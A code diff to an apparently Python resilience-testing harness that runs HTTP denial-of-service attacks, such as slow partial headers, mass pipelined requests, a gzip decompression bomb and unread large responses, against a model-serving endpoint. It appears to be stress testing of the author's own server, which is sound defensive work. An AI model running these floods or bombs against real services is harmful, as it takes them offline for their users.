@@ -46,18 +46,10 @@ async def _pipeline(to: target.Target) -> None:
             await one.send(lot)
             answers = 0
             while answers < _KEYS:
-                async with asyncio.timeout(to.left + 0.01):
-                    data = await one.read_some(65_536)
+                data = await one.read_some(65_536)
                 if not data:
                     raise link.Gone
                 answers += data.count(b"HTTP/1.1 ")
-
-
-async def _pipelined(to: target.Target) -> None:
-    try:
-        await _pipeline(to)
-    except TimeoutError:
-        raise target.Exhausted("time") from None
 
 
 async def _unread(to: target.Target) -> None:
@@ -94,10 +86,11 @@ def _bomb(start: bytes, middle: bytes, end: bytes, size: int) -> attack.Strike:
         packer = zlib.compressobj(9, wbits=_GZIP)
         packed = packer.compress(start + middle * (size // len(middle)) + end) + packer.flush()
         request = _post(packed, b"Content-Encoding: gzip")
-        async with link.http1(to) as one:
+        async with link.http1(to, reads=False) as one:
             while to.left:
                 await one.send(request)
-                await asyncio.sleep(0.2)
+                if not await one.read_some(65_536):
+                    raise link.Gone
 
     return attack.again(run)
 
@@ -136,7 +129,7 @@ _LAZY = _GET + b"GET /v1/models/echo HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 15_000
 ATTACKS = (
     _http("heads", "300 partial heads of 15 kB", _waiting(_HEAD), _LONGER_THAN_HEADS_MAY_TAKE),
     _http("heads-general", "300 partial heads after a GET", _waiting(_GET, _LAZY), _LONGER_THAN_HEADS_MAY_TAKE),
-    _http("pipelines", "50 x 64 keys, pipelined", attack.at_once(attack.again(_pipelined), 50), 8.0),
+    _http("pipelines", "50 x 64 keys, pipelined", attack.at_once(attack.again(_pipeline), 50), 8.0),
     _http("unread", "100 answers of 3 MB, never read", attack.at_once(_unread, 100), 8.0),
     _http("unread-pipeline", "pipelined requests, answers never read", attack.at_once(_unread_pipeline, 4), 8.0),
     _http("chunks", "chunks of one byte, on four connections", attack.at_once(attack.again(_chunks), 4)),
